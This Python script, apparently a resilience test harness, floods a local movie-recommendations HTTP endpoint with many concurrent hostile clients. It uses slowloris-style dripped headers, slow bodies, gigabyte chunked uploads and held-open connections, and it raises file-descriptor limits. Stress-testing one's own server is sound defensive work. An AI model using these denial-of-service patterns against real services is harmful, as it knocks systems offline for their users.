"""Hostile clients: `python attack.py PORT KIND CLIENTS TOKEN_FILE`. Says `stands` once all have been let in, and goes on until it is ended.

Of the standard library alone, so that on a small machine the attackers cost little beside those who are attacked.
"""

import asyncio
import contextlib
import json
import resource
import sys
from pathlib import Path

GIGABYTE = 1 << 30
AT_ONCE = 64
"""Clients that may be on their way in together."""
AGAIN_S = 0.2
DESCRIPTORS = 100


class Attack:
    """So many clients of one kind."""

    def __init__(self, port: int, kind: str, clients: int, token: str) -> None:
        """Take what they need."""
        self._port, self._kind, self._clients, self._token = port, kind, clients, token
        self._coming = asyncio.Semaphore(AT_ONCE)
        self._in = 0

    async def run(self) -> None:
        """All of them, for ever."""
        await asyncio.gather(*(self._one() for _ in range(self._clients)))

    async def _one(self) -> None:
        first = True
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                async with self._coming:
                    reader, writer = await asyncio.open_connection("127.0.0.1", self._port)
                if first:
                    self._in, first = self._in + 1, False
                    if self._in == self._clients:
                        sys.stdout.write("stands\n")
                        sys.stdout.flush()
                try:
                    await self._hurt(reader, writer)
                finally:
                    writer.close()
            await asyncio.sleep(AGAIN_S)

    async def _hurt(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        match self._kind:
            case "slow heads":
                await _drip(writer, b"POST /movies/v1/recommendations HTTP/1.1\r\nHost: " + b"x" * 1000)
            case "slow bodies":
                writer.write(self._head("Content-Length: 1000"))
                await _drip(writer, json.dumps({"user_id": "u" * 900}).encode())
            case "gigabytes":
                writer.write(self._head("Transfer-Encoding: chunked"))
                piece = b"10000\r\n" + b" " * 0x10000 + b"\r\n"
                for _ in range(GIGABYTE // 0x10000):
                    writer.write(piece)
                    await writer.drain()
            case _:
                await reader.read()

    def _head(self, length: str) -> bytes:
        words = [
            "POST /movies/v1/recommendations HTTP/1.1",
            "Host: x",
            f"Authorization: Bearer {self._token}",
            "Content-Type: application/json",
            length,
        ]
        return ("\r\n".join(words) + "\r\n\r\n").encode()


async def _drip(writer: asyncio.StreamWriter, words: bytes) -> None:
    for letter in words:
        writer.write(bytes([letter]))
        await writer.drain()
        await asyncio.sleep(1)


def main() -> None:
    """Attack until ended."""
    port, kind, clients, token_file = sys.argv[1:]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    if 0 <= most < int(clients) + DESCRIPTORS:
        sys.exit(f"{clients} clients need as many file descriptors, the limit is {most}: raise it (ulimit -Hn) or ask for fewer")
    asyncio.run(Attack(int(port), kind, int(clients), Path(token_file).read_text()).run())


if __name__ == "__main__":
    main()
